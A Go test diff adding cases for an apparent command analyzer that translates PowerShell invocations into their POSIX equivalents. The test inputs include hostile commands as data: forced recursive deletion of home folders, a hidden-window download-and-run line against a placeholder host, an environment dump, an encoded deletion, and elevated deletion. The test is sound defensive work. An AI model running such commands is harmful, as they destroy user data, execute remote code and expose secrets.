@@ -73,3 +73,30 @@ func TestSystemdRunAsRoot(t *testing.T) {
 		}
 	}
 }
+
+// TestPowerShell checks that the code pwsh and powershell.exe run is
+// listed as the POSIX commands it amounts to.
+func TestPowerShell(t *testing.T) {
+	tests := []struct {
+		script string
+		want   string
+	}{
+		{`pwsh -NoProfile -c "Remove-Item -Recurse -Force ~/Documents"`, "rm: rm -r -f ~/Documents <powershell>"},
+		{`powershell.exe -nop -w hidden -c "iwr https://x/a.ps1 | iex"`, "sh: sh <powershell>"},
+		{`powershell Get-ChildItem env:`, "env: env <powershell>"},
+		{"pwsh -enc cgBtACAALQByACAAfgA=", "rm: rm -r ~ <powershell>"},
+		{"pwsh -Command - <<'EOF'\nRemove-Item -Recurse ~/x\nEOF", "rm: rm -r ~/x <powershell>"},
+		{`pwsh -c "Start-Process pwsh -Verb RunAs -ArgumentList '-c Remove-Item -Recurse C:/x'"`, "rm: rm -r C:/x <powershell>"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.script, func(t *testing.T) {
+			got := describe(Analyze(tt.script, DefaultLimits))
+			if !slices.Contains(got, tt.want) {
+				t.Errorf("no %q in %q", tt.want, got)
+			}
+		})
+	}
+	if got := describe(Analyze("pwsh -File build.ps1 -Configuration Release", DefaultLimits)); len(got) != 1 {
+		t.Errorf("pwsh -File: %q, want the one command", got)
+	}
+}
